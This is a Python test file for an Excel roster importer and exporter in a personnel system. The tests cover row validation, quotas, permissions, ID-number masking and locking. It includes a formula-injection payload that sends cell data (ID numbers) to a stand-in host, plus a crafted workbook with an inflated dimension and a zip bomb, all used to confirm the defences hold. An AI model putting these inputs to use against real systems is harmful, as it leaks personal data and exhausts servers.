"""Excel: roster import with per-row errors (atomic by default, partial on request) and exports."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook
from personnel_world import LEADER, STAFFING, dept_admin, township_admin, with_room
from sqlalchemy import func, select

from personnel import excel
from personnel.models import Agency, Cadre, Department, Township
from personnel.roster import id_check_digit
from servicekit.errors import BadInput, Forbidden
from servicekit.outbox import OutboxEvent


def _id_number(prefix17: str) -> str:
    return prefix17 + id_check_digit(prefix17)


def _xlsx(rows) -> bytes:
    wb = Workbook()
    ws = wb.active
    ws.append(excel.ROSTER_COLUMNS)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


async def _room(session):
    agency = await session.get(Agency, (await with_room(session, "zhzfj"))[0])
    town = await session.get(Township, agency.township_id)
    return agency, town.code


def _row(name, id17, town, dept="zhzfj", **over):
    row = {
        "姓名": name,
        "性别": "男",
        "出生日期": "1990-05-06",
        "身份证号": _id_number(id17),
        "手机": "13800001111",
        "业务条线": "城市管理",
        "部门代码": dept,
        "乡镇代码": town,
        "到岗日期": dt.date(2026, 11, 1),
    }
    row.update(over)
    return [row[c] for c in excel.ROSTER_COLUMNS]


async def test_a_clean_file_is_imported_with_events(session):
    agency, town = await _room(session)
    created, errors = await excel.import_roster(session, STAFFING, _xlsx([_row("钱多多", "33068119900506123", town)]))
    assert errors == [] and len(created) == 1 and created[0].agency_id == agency.id
    assert (
        await session.scalar(
            select(func.count())
            .select_from(OutboxEvent)
            .where(OutboxEvent.aggregate_id == str(created[0].id), OutboxEvent.type == "cadre.stationed")
        )
        == 1
    )


async def test_any_bad_row_means_nothing_is_written(session):
    _, town = await _room(session)
    before = await session.scalar(select(func.count()).select_from(Cadre))
    created, errors = await excel.import_roster(
        session,
        STAFFING,
        _xlsx(
            [
                _row("好人", "33068119900506124", town),
                _row("", "33068119900506125", town),  # no name
                _row("坏号", "33068119900506126", town, 身份证号="330681199005061260"),  # wrong check digit
                _row("无镇", "33068119900506127", "nowhere"),
                _row("坏日", "33068119900506128", town, 出生日期="1990/13/01"),
            ]
        ),
    )
    assert created == []
    assert [(e.row, e.column) for e in errors] == [(3, "姓名"), (4, "身份证号"), (5, "乡镇代码"), (6, "出生日期")]
    assert await session.scalar(select(func.count()).select_from(Cadre)) == before


async def test_partial_mode_writes_the_valid_rows(session):
    _, town = await _room(session)
    created, errors = await excel.import_roster(
        session,
        STAFFING,
        _xlsx([_row("好人甲", "33068119900506129", town), _row("", "33068119900506130", town)]),
        partial=True,
    )
    assert [c.name for c in created] == ["好人甲"] and [e.row for e in errors] == [3]


async def test_import_respects_the_quota(session):
    agency, town = await _room(session)
    from personnel import vacancies

    room = (await vacancies.occupancy(session, [agency.id]))[agency.id].available
    rows = [_row(f"补员{i}", f"3306811990050{6200 + i:04d}", town) for i in range(room + 1)]
    created, errors = await excel.import_roster(session, STAFFING, _xlsx(rows))
    assert created == [] and len(errors) == 1 and "QUOTA_EXCEEDED" in errors[0].message


async def test_a_duplicate_id_number_is_refused(session):
    existing = (await session.scalars(select(Cadre.id_number).where(Cadre.id_number.is_not(None)))).first()
    _, town = await _room(session)
    created, errors = await excel.import_roster(session, STAFFING, _xlsx([_row("重号", existing[:17], town)]))
    assert created == [] and errors[0].column == "身份证号"


def _wrong_header() -> bytes:
    wb = Workbook()
    wb.active.append(["name", "gender"])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.parametrize("content", [b"not an excel file", _wrong_header()])
async def test_an_unreadable_file_or_a_wrong_header_is_bad_input(session, content):
    with pytest.raises(BadInput):
        await excel.import_roster(session, STAFFING, content)


@pytest.mark.parametrize("who", [dept_admin("zhzfj"), township_admin("diankou"), LEADER])
async def test_only_the_staffing_office_imports(session, who):
    with pytest.raises(Forbidden):
        await excel.import_roster(session, who, _xlsx([]))


async def test_exports_open_in_excel_and_mask_what_the_caller_may_not_see(session):
    content, _ = await excel.export_roster(session, LEADER, None)
    ws = load_workbook(io.BytesIO(content)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == "姓名" and len(rows) == 567
    assert all("*" in r[3] for r in rows[1:])  # leadership sees masked ID numbers
    mine = list(
        load_workbook(io.BytesIO((await excel.export_roster(session, dept_admin("sfj"), None))[0])).active.iter_rows(
            values_only=True
        )
    )
    sfj = await session.get(
        Department, (await session.scalars(select(Department.id).where(Department.code == "sfj"))).first()
    )
    assert len(mine) == 1 + 92 and all("*" not in r[3] for r in mine[1:]) and all(r[7] == sfj.name for r in mine[1:])
    quota = list(
        load_workbook(io.BytesIO(await excel.export_quota_table(session, LEADER))).active.iter_rows(values_only=True)
    )
    assert len(quota) == 73 and sum(r[3] for r in quota[1:]) == 597
    gaps = list(
        load_workbook(io.BytesIO(await excel.export_vacancies(session, LEADER))).active.iter_rows(values_only=True)
    )
    assert len(gaps) == 1 + 6 + 12


async def test_formula_text_is_imported_and_exported_as_text_never_as_a_formula(session):
    """Free text starting with = + - @ left as a live formula beside full ID numbers (formula injection)."""
    agency, town = await _room(session)
    payload = '=HYPERLINK("http://e.example/"&D2)'
    # openpyxl writes a string starting with "=" as a formula: this is what an attacker would upload.
    created, errors = await excel.import_roster(
        session, STAFFING, _xlsx([_row("公式测试", "33068119900506131", town, 业务条线=payload)])
    )
    assert errors == [] and created[0].professional_line == payload  # kept as the text typed
    zhzfj = dept_admin("zhzfj")
    content, _ = await excel.export_roster(session, zhzfj, None)
    ws = load_workbook(io.BytesIO(content)).active
    cells = [row[5] for row in ws.iter_rows(min_row=2) if row[0].value == "公式测试"]
    assert len(cells) == 1
    assert cells[0].value == payload and cells[0].data_type == "s" and cells[0].quotePrefix
    # Nothing in the whole file is a formula.
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)


def _with_declared_dimension(content: bytes, dimension: str) -> bytes:
    """The same workbook with its sheet claiming another size (``<dimension ref=…>``)."""
    import re
    import zipfile

    src, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>'.encode(), data)
            dst.writestr(item, data)
    return out.getvalue()


def test_a_sheet_declaring_every_column_is_read_as_the_templates_columns_only():
    """Before: openpyxl padded each of 5,000 rows to the declared A1:XFD1048576 (16,384 cells a row):
    a 31 KB file took ~650 MB of the 512 Mi pod. Rows are now read as the template's nine columns."""
    import tracemalloc

    rows = [["张三", "男", "1990-01-01", "x", "", "人民调解", "sfj", "t", "2024-01-01"]] * excel.MAX_ROWS
    crafted = _with_declared_dimension(_xlsx(rows), "A1:XFD1048576")
    assert len(crafted) < 200 * 1024
    tracemalloc.start()
    read = excel.read_rows(crafted)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(read) == excel.MAX_ROWS + 1 and {len(r) for r in read} == {len(excel.ROSTER_COLUMNS)}
    assert peak < 64 * 1024 * 1024, peak


def test_reading_stops_one_row_past_the_limit():
    rows = [["a"] * 9] * (excel.MAX_ROWS + 50)
    assert len(excel.read_rows(_xlsx(rows))) == excel.MAX_ROWS + 2


def test_a_zip_that_unpacks_to_far_more_than_a_roster_is_refused_before_parsing():
    import zipfile

    content = _xlsx([])
    src, out = zipfile.ZipFile(io.BytesIO(content)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            dst.writestr(item, src.read(item.filename))
        dst.writestr("xl/padding.xml", b" " * (80 * 1024 * 1024))
    bomb = out.getvalue()
    assert len(bomb) < excel.MAX_BYTES
    with pytest.raises(BadInput) as err:
        excel.read_rows(bomb)
    assert err.value.message == "Excel 文件解压后过大"


async def test_rule_import_after_lock(session):
    """清单式锁定 then 全流程制约: once a period is locked, new people arrive only as adjustments the
    department submits and 组织部 reviews — the import refuses and writes nothing."""
    from personnel import snapshots
    from servicekit.audit import AuditRecord
    from servicekit.errors import RuleViolation

    _, town = await _room(session)
    await snapshots.lock(session, STAFFING, period="2026", note="年度锁定")
    before = (
        await session.scalar(select(func.count()).select_from(Cadre)),
        await session.scalar(select(func.count()).select_from(AuditRecord)),
        await session.scalar(select(func.count()).select_from(OutboxEvent)),
    )
    with pytest.raises(RuleViolation) as err:
        await excel.import_roster(session, STAFFING, _xlsx([_row("钱多多", "33068119900506123", town)]))
    assert err.value.rule == "IMPORT_AFTER_LOCK" and "2026" in err.value.message
    after = (
        await session.scalar(select(func.count()).select_from(Cadre)),
        await session.scalar(select(func.count()).select_from(AuditRecord)),
        await session.scalar(select(func.count()).select_from(OutboxEvent)),
    )
    assert after == before


async def test_an_import_before_the_first_lock_is_audited_as_the_initial_load(session):
    from servicekit.audit import AuditRecord

    _, town = await _room(session)
    await excel.import_roster(session, STAFFING, _xlsx([_row("钱多多", "33068119900506123", town)]))
    record = (
        await session.scalars(
            select(AuditRecord).where(AuditRecord.action == "roster.import").order_by(AuditRecord.seq.desc())
        )
    ).first()
    assert record.after["initial_load"] is True and "initial load" in record.reason
